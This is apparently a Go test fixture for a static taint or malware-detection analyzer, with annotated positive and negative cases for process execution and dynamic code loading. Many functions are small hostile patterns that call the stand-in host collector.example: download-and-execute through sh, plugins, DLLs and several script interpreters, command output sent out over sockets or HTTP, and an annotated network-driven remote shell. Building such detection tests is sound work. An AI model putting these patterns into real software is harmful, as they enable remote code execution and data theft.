// Processes that are started, and code that is loaded: os/exec, os, syscall, plugin, and interpreters.
package models

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"plugin"
	"strconv"
	"strings"
	"syscall"

	"github.com/creack/pty"
	"github.com/dop251/goja"
	"github.com/tetratelabs/wazero"
	"github.com/traefik/yaegi/interp"
	lua "github.com/yuin/gopher-lua"
	"go.starlark.net/starlark"
	"golang.org/x/sys/windows"
)

const U = "https://collector.example/u?"

func command() {
	response, _ := http.Get(U) //~ source(NETWORK) f1
	b, _ := io.ReadAll(response.Body)
	exec.Command("sh", "-c", string(b)).Run() //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
}

func downloadedCommand() {
	response, _ := http.Get(U) //~ source(NETWORK) f2
	f, _ := os.Create("/tmp/agent")
	io.Copy(f, response.Body) //~ sink(file.write) f2, finding(traced) f2
	exec.Command("/tmp/agent").Run() //~ sink(exec.command) f2, finding(traced) f2
}

func commandConstant() {
	exec.Command("sh", "-c", "id").Run() //~ ok
}

func commandContext(ctx context.Context) {
	response, _ := http.Get(U) //~ source(NETWORK) f4
	b, _ := io.ReadAll(response.Body)
	exec.CommandContext(ctx, "sh", "-c", string(b)).Run() //~ sink(exec.command) f4, finding(traced) f4, capability(EXEC)
}

func commandContextConstant(ctx context.Context) {
	exec.CommandContext(ctx, "id").Run() //~ ok
}

func output(c net.Conn) {
	out, _ := exec.Command("id").Output() //~ source(COMMAND_OUTPUT) f6, capability(EXEC)
	c.Write(out) //~ sink(egress.socket) f6, finding(traced) f6
}

func outputRemote(c net.Conn) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f7
	out, _ := exec.Command("sh", "-c", string(b)).CombinedOutput() //~ sink(exec.command) f7, finding(traced) f7, source(COMMAND_OUTPUT) f7b
	c.Write(out) //~ sink(egress.socket) f7b, finding(remote-shell, traced) f7b
}

func outputUnused() {
	exec.Command("id").CombinedOutput() //~ ok
}

func input() {
	response, _ := http.Get(U) //~ source(NETWORK) f9
	cmd := exec.Command("sh")
	cmd.Stdin = response.Body
	cmd.Run() //~ sink(exec.command) f9, finding(traced) f9, capability(EXEC)
}

func outputBuffer(c net.Conn) {
	var out bytes.Buffer
	cmd := exec.Command("id")
	cmd.Stdout = &out
	cmd.Run() //~ source(COMMAND_OUTPUT) f10
	c.Write(out.Bytes()) //~ sink(egress.socket) f10, finding(traced) f10
}

func inputConstant() {
	cmd := exec.Command("sh")
	cmd.Stdin = strings.NewReader("id")
	cmd.Run() //~ ok
}

func outputPipe() {
	cmd := exec.Command("id")
	out, _ := cmd.StdoutPipe() //~ source(COMMAND_OUTPUT) f12
	cmd.Start()
	http.Post(U, "", out) //~ sink(egress.http) f12, finding(traced) f12
}

func outputPipeUnused() {
	cmd := exec.Command("id")
	cmd.StdoutPipe() //~ ok
}

func inputPipe() {
	response, _ := http.Get(U) //~ source(NETWORK) f14
	cmd := exec.Command("sh")
	in, _ := cmd.StdinPipe()
	io.Copy(in, response.Body)
	cmd.Run() //~ sink(exec.command) f14, finding(traced) f14
}

func inputPipeConstant() {
	cmd := exec.Command("sh")
	in, _ := cmd.StdinPipe() //~ ok
	io.WriteString(in, "id")
	cmd.Run() //~ ok
}

func commandText() {
	cmd := exec.Command("echo", os.Getenv("T")) //~ source(ENVIRONMENT) f16
	http.Get(U + cmd.String()) //~ sink(egress.http) f16, finding(traced) f16
}

func commandTextConstant() {
	http.Get(U + exec.Command("id").String()) //~ ok
}

func found() {
	exec.LookPath("sh") //~ capability(FILES)
}

func foundNamed() {
	p, _ := exec.LookPath(os.Getenv("T")) //~ ok
	http.Get(U + p) //~ ok
}

func process() {
	response, _ := http.Get(U) //~ source(NETWORK) f20
	b, _ := io.ReadAll(response.Body)
	syscall.Exec("/bin/sh", []string{"sh", "-c", string(b)}, nil) //~ sink(exec.command) f20, finding(traced) f20, capability(EXEC)
}

func processConstant() {
	syscall.Exec("/bin/sh", []string{"sh", "-c", "id"}, os.Environ()) //~ ok
}

func loaded() {
	response, _ := http.Get(U) //~ source(NETWORK) f22
	f, _ := os.Create("/tmp/p.so")
	io.Copy(f, response.Body) //~ sink(file.write) f22, finding(traced) f22
	plugin.Open("/tmp/p.so") //~ sink(exec.load) f22, finding(traced) f22, capability(NATIVE)
}

func loadedConstant() {
	plugin.Open("/usr/lib/p.so") //~ ok
}

func looked(p *plugin.Plugin) {
	p.Lookup("Run") //~ capability(DYNAMIC_CODE)
}

func lookedNamed(p *plugin.Plugin) {
	s, _ := p.Lookup(os.Getenv("T")) //~ ok
	http.Get(U + s.(string)) //~ ok
}

func library() {
	response, _ := http.Get(U) //~ source(NETWORK) f26
	b, _ := io.ReadAll(response.Body)
	os.WriteFile("x.dll", b, 0o600) //~ sink(file.write) f26, finding(traced) f26
	windows.NewLazyDLL("x.dll") //~ sink(exec.load) f26, finding(traced) f26, capability(NATIVE)
}

func libraryConstant() {
	windows.NewLazyDLL("user32.dll") //~ ok
}

func interpreted(i *interp.Interpreter) {
	response, _ := http.Get(U) //~ source(NETWORK) f28
	b, _ := io.ReadAll(response.Body)
	i.Eval(string(b)) //~ sink(exec.code) f28, finding(traced) f28, capability(DYNAMIC_CODE)
}

func interpretedConstant(i *interp.Interpreter) {
	i.Eval("1 + 1") //~ ok
}

func interpreterMade() {
	response, _ := http.Get(U) //~ source(NETWORK) f30
	b, _ := io.ReadAll(response.Body)
	interp.New(interp.Options{}).Eval(string(b)) //~ sink(exec.code) f30, finding(traced) f30, capability(DYNAMIC_CODE)
}

func interpreterConstant() {
	interp.New(interp.Options{}).Eval("1 + 1") //~ ok
}

func scriptMade() {
	response, _ := http.Get(U) //~ source(NETWORK) f32
	b, _ := io.ReadAll(response.Body)
	goja.New().RunString(string(b)) //~ sink(exec.code) f32, finding(traced) f32, capability(DYNAMIC_CODE)
}

func scriptMadeConstant() {
	goja.New().RunString("1 + 1") //~ ok
}

func script(vm *goja.Runtime) {
	response, _ := http.Get(U) //~ source(NETWORK) f34
	b, _ := io.ReadAll(response.Body)
	vm.RunString(string(b)) //~ sink(exec.code) f34, finding(traced) f34, capability(DYNAMIC_CODE)
}

func scriptConstant(vm *goja.Runtime) {
	vm.RunString("1 + 1") //~ ok
}

func luaMade() {
	response, _ := http.Get(U) //~ source(NETWORK) f36
	b, _ := io.ReadAll(response.Body)
	lua.NewState().DoString(string(b)) //~ sink(exec.code) f36, finding(traced) f36, capability(DYNAMIC_CODE)
}

func luaMadeConstant() {
	lua.NewState().DoString("return 1") //~ ok
}

func luaRun(l *lua.LState) {
	response, _ := http.Get(U) //~ source(NETWORK) f38
	b, _ := io.ReadAll(response.Body)
	l.DoString(string(b)) //~ sink(exec.code) f38, finding(traced) f38, capability(DYNAMIC_CODE)
}

func luaRunConstant(l *lua.LState) {
	l.DoString("return 1") //~ ok
}

func starlarkRun(thread *starlark.Thread) {
	response, _ := http.Get(U) //~ source(NETWORK) f40
	b, _ := io.ReadAll(response.Body)
	starlark.ExecFile(thread, "rules.star", b, nil) //~ sink(exec.code) f40, finding(traced) f40, capability(DYNAMIC_CODE)
}

func starlarkConstant(thread *starlark.Thread) {
	starlark.ExecFile(thread, "rules.star", "x = 1", nil) //~ ok
}

func module(r wazero.Runtime, ctx context.Context) {
	response, _ := http.Get(U) //~ source(NETWORK) f42
	b, _ := io.ReadAll(response.Body)
	r.Instantiate(ctx, b) //~ sink(exec.load) f42, finding(traced) f42, capability(DYNAMIC_CODE)
}

func moduleConstant(r wazero.Runtime, ctx context.Context) {
	r.Instantiate(ctx, []byte{0}) //~ ok
}

func terminal(c net.Conn) {
	f, _ := pty.Start(exec.Command("sh")) //~ source(COMMAND_OUTPUT) f44, capability(EXEC)
	io.Copy(c, f) //~ sink(egress.socket) f44, finding(traced) f44
}

func terminalUnused() {
	pty.Start(exec.Command("sh")) //~ ok
}

func terminalWritten(c net.Conn) {
	f, _ := pty.Start(exec.Command("sh"))
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f46
	f.Write(b) //~ sink(exec.command) f46, finding(traced) f46
}

func terminalWrittenConstant() {
	f, _ := pty.Start(exec.Command("sh"))
	f.Write([]byte("id")) //~ ok
}

func systemCall() {
	syscall.Syscall(1, 0, 0, 0) //~ capability(NATIVE)
}

func systemCallNumber() {
	n, _, _ := syscall.Syscall(uintptr(os.Getpid()), 0, 0, 0) //~ ok
	http.Get(U + strconv.Itoa(int(n))) //~ ok
}
